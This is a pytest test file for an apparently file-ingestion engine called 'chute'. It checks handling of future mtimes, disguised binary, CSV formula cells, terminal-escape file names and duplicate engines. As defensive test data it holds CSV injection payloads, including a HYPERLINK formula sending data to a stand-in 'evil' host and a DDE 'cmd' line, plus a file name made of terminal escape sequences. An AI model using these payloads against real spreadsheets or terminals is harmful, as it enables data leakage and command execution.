"""Inputs from an operator's bad day: future mtimes, binary that decodes, formula cells, names
that drive the terminal, a second engine on the same root."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import fresh_env, settled, test_config, wait_for

from chute.engine import Engine, EngineError
from chute.tui.cli import main as chute_main


def test_a_file_with_a_future_mtime_is_taken_by_the_engines_clock(tmp_path, make_engine):
    root = tmp_path / "root"
    inbox = root / "inbox"
    inbox.mkdir(parents=True)
    # Copied with its times kept from a machine whose clock runs a day ahead: no event will be
    # seen for it (it is there before the engine starts), only the scan.
    future = time.time() + 86400
    for name in ("ahead.txt", "far-ahead.txt"):
        (inbox / name).write_text("from the future\n")
    os.utime(inbox / "ahead.txt", (future, future))
    os.utime(inbox / "far-ahead.txt", (future * 2, future * 2))
    engine = make_engine(root, watcher={"min_age": 0.3})
    assert settled(engine, "ahead.txt", timeout=10).state == "done"
    assert settled(engine, "far-ahead.txt", timeout=10).state == "done"


def _c1_as_utf16() -> bytes:
    # Every even byte a C1 control, every odd byte NUL: "valid" UTF-16-LE without a BOM.
    return bytes(b for i in range(600) for b in (0x80 + i % 32, 0))


@pytest.mark.parametrize("name", ["blob.txt", "blob.csv", "blob.log"])
def test_bytes_that_decode_to_control_characters_are_binary(engine, name):
    (engine.config.paths.inbox / name).write_bytes(_c1_as_utf16())
    rec = settled(engine, name)
    assert (rec.state, rec.error_kind) == ("failed", "binary"), rec.reason
    assert "utf-16-le" in rec.reason and "control" in rec.reason
    # Real UTF-16 text without a BOM is still text.
    (engine.config.paths.inbox / "real.txt").write_bytes("héllo wörld\n".encode("utf-16-le") * 20)
    assert settled(engine, "real.txt").state == "done"


FORMULAS = b'name,amount,note\n=HYPERLINK("http://evil/?"&A1),-5,@SUM(A1)\nbob,3,"+cmd|\' /C calc\'!A0"\nann,-2,plain\n'


def test_formula_cells_are_neutralised_and_the_metadata_says_so(engine, make_engine, tmp_path):
    (engine.config.paths.inbox / "f.csv").write_bytes(FORMULAS)
    rec = settled(engine, "f.csv")
    out = Path(rec.dest + ".normalized.csv").read_text()
    assert "'=HYPERLINK" in out and "'@SUM(A1)" in out and "'+cmd" in out
    assert ",-5," in out and ",-2," in out, "numbers are not formulas"
    assert engine.file(rec.id).meta["formulas_neutralized"] == 3
    assert json.loads(Path(rec.dest + ".meta.json").read_text())["found"]["formulas_neutralized"] == 3

    kept = make_engine(tmp_path / "keep", pipeline={"csv_formulas": "keep"})
    (kept.config.paths.inbox / "f.csv").write_bytes(FORMULAS)
    rec = settled(kept, "f.csv")
    out = Path(rec.dest + ".normalized.csv").read_text()
    assert '"=HYPERLINK(""http://evil/?""&A1)"' in out and "'" not in out.split("\n")[1]
    assert "formulas_neutralized" not in kept.file(rec.id).meta


NASTY = "\x1b]0;pwned\x07\x1b[2J\rnice\x08\x08.txt"


def test_the_cli_prints_names_and_reasons_with_controls_escaped(engine, capsys):
    (engine.config.paths.inbox / NASTY).write_bytes(b"")  # empty: fails, with a reason
    (engine.config.paths.inbox / "fine.txt").write_text("ok\n")
    settled(engine, NASTY)
    settled(engine, "fine.txt")
    engine.stop()
    root = str(engine.config.paths.root)
    for args in (["files", "--root", root], ["status", "--root", root]):
        assert chute_main(args) == 0
        out = capsys.readouterr().out
        assert not any(c in out for c in "\x1b\x07\r\x08"), repr(out)
        assert "\\x1b]0;pwned\\x07\\x1b[2J\\rnice\\x08\\x08.txt" in out
    assert chute_main(["files", "--root", root, "--state", "done"]) == 0
    assert capsys.readouterr().out.endswith("\tfine.txt\n")
    assert chute_main(["report", "--root", root]) == 0
    out = capsys.readouterr().out
    assert not any(c in out for c in "\x1b\x07\r\x08"), repr(out)


def test_a_second_engine_is_refused_even_with_the_lock_file_deleted(tmp_path, make_engine):
    first = make_engine(tmp_path / "root")
    (first.config.paths.state / "engine.lock").unlink()
    second = Engine(test_config(tmp_path / "root"))
    with pytest.raises(EngineError, match=r"already running on .*inbox"):
        second.start()
    # The same inbox under another state folder is still the same inbox.
    config = test_config(tmp_path / "root")
    other = Engine(config.replace(paths=dataclasses.replace(config.paths, state=tmp_path / "state2")))
    with pytest.raises(EngineError, match="inbox"):
        other.start()


def test_a_killed_engine_leaves_no_lock_behind(tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    proc = subprocess.Popen(
        [sys.executable, "-m", "chute.engine", "--root", str(root), "--no-server", "--log-level", "WARNING"],
        env=fresh_env(),
        stderr=subprocess.PIPE,
    )
    try:
        wait_for(lambda: (root / "state" / "engine.lock").exists(), what="the engine to start")
        from chute.engine.lock import held

        wait_for(lambda: held(root / "state"), what="the lock")
    finally:
        proc.kill()
        proc.wait()
    engine = Engine(test_config(root))
    engine.start()
    engine.stop()
